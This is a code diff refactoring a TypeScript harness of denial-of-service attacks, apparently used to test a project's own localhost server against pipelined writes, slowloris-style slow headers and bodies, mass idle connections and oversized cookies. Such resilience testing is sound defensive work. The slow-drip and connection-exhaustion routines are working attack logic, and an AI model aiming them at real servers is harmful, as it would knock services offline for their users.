@@ -1,13 +1,10 @@
 import { setTimeout as wait } from 'node:timers/promises';
-import type { Attack } from './attack.ts';
-import { holdOut, inParallel, repeat } from './attack.ts';
+import type { Attack, Target } from './attack.ts';
+import { waitUntilOver, inParallel, repeat } from './attack.ts';
 import { call } from './harness/http.ts';
 import { openSocket, write } from './harness/websocket.ts';
 
 const KIB = 1024;
-
-/** An attacker ignores failed steps. */
-const ignore = () => undefined;
 
 const pipelinedWrites: Attack = {
   name: 'pipelined-writes',
@@ -42,7 +39,7 @@ const pipelinedBooks: Attack = {
       socket.pause();
       void write(socket, request.repeat(requests));
     }
-    await holdOut(target);
+    await waitUntilOver(target);
     return `${(requests * sockets.length).toString()} requests`;
   },
 };
@@ -50,7 +47,7 @@ const pipelinedBooks: Attack = {
 const slowHeaders: Attack = {
   name: 'slow-headers',
   title: '500 connections that send a header byte by byte',
-  run: (target) => dripInto(target, 'GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ', 'x'),
+  run: (target) => dripInto(target, 'GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: '),
 };
 
 const slowBodies: Attack = {
@@ -61,17 +58,16 @@ const slowBodies: Attack = {
       target,
       'POST /api/auth/signin HTTP/1.1\r\nHost: localhost\r\n' +
         'Content-Type: application/json\r\nContent-Length: 10000\r\n\r\n{"username":"',
-      'x',
     ),
 };
 
-async function dripInto(target: Parameters<Attack['run']>[0], start: string, part: string) {
+async function dripInto(target: Target, start: string) {
   const sockets = await Promise.all(Array.from({ length: 500 }, () => openSocket(target.port)));
   for (const socket of sockets) void write(socket, start);
   await repeat(
     target,
     async () => {
-      for (const socket of sockets) void write(socket, part);
+      for (const socket of sockets) void write(socket, 'x');
     },
     250,
   );
@@ -85,7 +81,7 @@ const silent: Attack = {
   async run(target) {
     const sockets = await Promise.all(Array.from({ length: 1000 }, () => openSocket(target.port)));
     for (const socket of sockets) socket.resume();
-    await holdOut(target);
+    await waitUntilOver(target);
     const open = sockets.filter(({ destroyed }) => !destroyed).length;
     return `${open.toString()} of ${sockets.length.toString()} open at the end`;
   },
@@ -105,7 +101,7 @@ const manyConnections: Attack = {
         await write(socket, 'GET /api/public/views HTTP/1.1\r\nHost: localhost\r\n\r\n');
       }),
     );
-    await holdOut(target);
+    await waitUntilOver(target);
     return `${answered.toString()} of 2000 answered`;
   },
 };
@@ -163,7 +159,7 @@ const cookies: Attack = {
         port: target.port,
         path: '/api/public/downloadTime',
         headers: { Cookie: kind.repeat(Math.floor((12 * KIB) / kind.length)) },
-      }).catch(ignore);
+      }).catch(() => undefined);
     });
     return `${times.toString()} requests`;
   },
